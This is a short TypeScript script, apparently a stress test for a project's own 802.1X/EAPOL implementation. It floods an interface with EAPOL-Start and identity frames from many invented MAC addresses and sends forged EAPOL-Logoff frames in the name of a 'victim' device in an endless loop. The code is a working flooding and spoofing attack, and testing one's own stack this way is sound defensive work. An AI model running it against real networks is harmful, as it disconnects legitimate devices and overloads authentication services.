/** A flood of EAPOL on one interface: `eapol-flood.ts INTERFACE`, from many strangers and in the name of a device. */

import { encodeEap } from '../../../src/net/eap.ts';
import { encodeEapol } from '../../../src/net/eapol.ts';
import { EtherType, encodeFrame } from '../../../src/net/ethernet.ts';
import { allocate } from '../../../src/sys/memory.ts';
import { MAX_FRAME, PacketSocket } from '../../../src/sys/packet.ts';

const VNET_HEADER = 10;
const socket = new PacketSocket(process.argv[2] ?? '');
const memory = allocate(MAX_FRAME);
const victim = '02:00:00:00:00:02';

function send(source: string, payload: Uint8Array): void {
  const frame = encodeFrame({
    destination: '01:80:c2:00:00:03',
    source,
    tag: null,
    etherType: EtherType.eapol,
    payload,
  });
  memory.bytes.set(frame, VNET_HEADER);
  socket.send(memory, VNET_HEADER + frame.length);
}

const identity = (id: number) =>
  encodeEapol('packet', encodeEap({ code: 'response', id, type: 1, data: Buffer.from('anonymous') }));
let sent = 0;

/** A few hundred frames at a time, so that signals are heard. */
function burst(): void {
  for (let i = 0; i < 200; i++, sent++) {
    const stranger = `06:00:00:00:${[sent >> 8, sent].map((n) => (n & 255).toString(16).padStart(2, '0')).join(':')}`;
    send(stranger, encodeEapol('start'));
    send(stranger, identity(sent & 255));
    send(victim, encodeEapol(sent % 3 === 0 ? 'logoff' : 'start'));
    send(victim, identity(sent & 255));
  }
  setImmediate(burst);
}

console.log('flooding');
burst();
